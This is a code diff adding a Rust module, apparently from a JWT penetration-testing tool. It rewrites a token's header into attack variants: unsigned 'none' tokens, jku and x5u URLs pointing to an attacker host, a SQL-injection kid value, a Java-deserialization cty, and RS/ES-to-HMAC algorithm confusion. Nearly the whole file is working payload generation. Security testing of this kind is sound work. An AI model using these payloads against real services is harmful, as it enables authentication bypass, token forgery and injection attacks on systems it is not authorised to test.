@@ -0,0 +1,129 @@
+use crate::cmd::crypto::Algorithm;
+use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+use base64::Engine;
+use log::{error, info};
+use serde_json::{Map, Value};
+
+const ALL_TARGETS: &[&str] = &["none", "jku", "x5u", "alg_confusion", "kid_sql", "x5c", "cty"];
+
+/// Generates a set of attack-payload variants of `token`'s header, one per
+/// requested target, for manually probing an issuer/verifier's handling of
+/// untrusted header fields.
+pub fn execute(
+    token: &str,
+    jwk_trust: Option<&str>,
+    jwk_attack: Option<&str>,
+    jwk_protocol: &str,
+    target: Option<&str>,
+) {
+    let parts: Vec<&str> = token.split('.').collect();
+    if parts.len() != 3 {
+        error!("Malformed JWT: expected header.payload.signature");
+        return;
+    }
+    let header = match decode_segment(parts[0]) {
+        Ok(Value::Object(h)) => h,
+        Ok(_) => {
+            error!("JWT header must be a JSON object");
+            return;
+        }
+        Err(e) => {
+            error!("Invalid JWT header: {e}");
+            return;
+        }
+    };
+    let payload_b64 = parts[1];
+
+    let targets: Vec<&str> = match target {
+        Some("all") | None => ALL_TARGETS.to_vec(),
+        Some(t) => t.split(',').map(str::trim).collect(),
+    };
+
+    for target in targets {
+        if !ALL_TARGETS.contains(&target) {
+            error!(
+                "Unknown payload target `{target}` (expected one of: {})",
+                ALL_TARGETS.join(", ")
+            );
+            continue;
+        }
+        match build_payload(&header, payload_b64, target, jwk_trust, jwk_attack, jwk_protocol) {
+            Ok(token) => info!("[{target}] {token}"),
+            Err(e) => error!("[{target}] {e}"),
+        }
+    }
+}
+
+/// Builds a single payload variant by rewriting `header` for `target` and
+/// re-assembling an (unsigned, to be re-signed or replayed as-is) JWT.
+fn build_payload(
+    header: &Map<String, Value>,
+    payload_b64: &str,
+    target: &str,
+    jwk_trust: Option<&str>,
+    jwk_attack: Option<&str>,
+    jwk_protocol: &str,
+) -> Result<String, String> {
+    let mut header = header.clone();
+    match target {
+        "none" => {
+            header.insert("alg".to_string(), Value::String("none".to_string()));
+            let header_b64 = URL_SAFE_NO_PAD.encode(Value::Object(header).to_string());
+            Ok(format!("{header_b64}.{payload_b64}."))
+        }
+        "jku" => {
+            let host = jwk_attack.or(jwk_trust).unwrap_or("attacker.example");
+            header.insert(
+                "jku".to_string(),
+                Value::String(format!("{jwk_protocol}://{host}/jwks.json")),
+            );
+            Ok(encode_header(&header, payload_b64))
+        }
+        "x5u" => {
+            let host = jwk_attack.or(jwk_trust).unwrap_or("attacker.example");
+            header.insert(
+                "x5u".to_string(),
+                Value::String(format!("{jwk_protocol}://{host}/cert.pem")),
+            );
+            Ok(encode_header(&header, payload_b64))
+        }
+        "x5c" => {
+            header.insert(
+                "x5c".to_string(),
+                Value::Array(vec![Value::String("<attacker-controlled certificate>".to_string())]),
+            );
+            Ok(encode_header(&header, payload_b64))
+        }
+        "kid_sql" => {
+            header.insert("kid".to_string(), Value::String("' UNION SELECT 'secret".to_string()));
+            Ok(encode_header(&header, payload_b64))
+        }
+        "cty" => {
+            header.insert("cty".to_string(), Value::String("x-java-serialized-object".to_string()));
+            Ok(encode_header(&header, payload_b64))
+        }
+        "alg_confusion" => {
+            let confused = match header.get("alg").and_then(Value::as_str).and_then(Algorithm::from_str) {
+                Some(Algorithm::RS256) | Some(Algorithm::ES256) => "HS256",
+                Some(Algorithm::RS384) | Some(Algorithm::ES384) => "HS384",
+                Some(Algorithm::RS512) => "HS512",
+                _ => return Err("algorithm confusion only applies to RS*/ES* tokens".to_string()),
+            };
+            header.insert("alg".to_string(), Value::String(confused.to_string()));
+            Ok(encode_header(&header, payload_b64))
+        }
+        other => unreachable!("unknown target `{other}` should have been rejected by the caller"),
+    }
+}
+
+fn encode_header(header: &Map<String, Value>, payload_b64: &str) -> String {
+    let header_b64 = URL_SAFE_NO_PAD.encode(Value::Object(header.clone()).to_string());
+    format!("{header_b64}.{payload_b64}.<signature-required>")
+}
+
+fn decode_segment(segment: &str) -> Result<Value, String> {
+    let bytes = URL_SAFE_NO_PAD
+        .decode(segment)
+        .map_err(|e| format!("invalid base64url: {e}"))?;
+    serde_json::from_slice(&bytes).map_err(|e| format!("invalid JSON: {e}"))
+}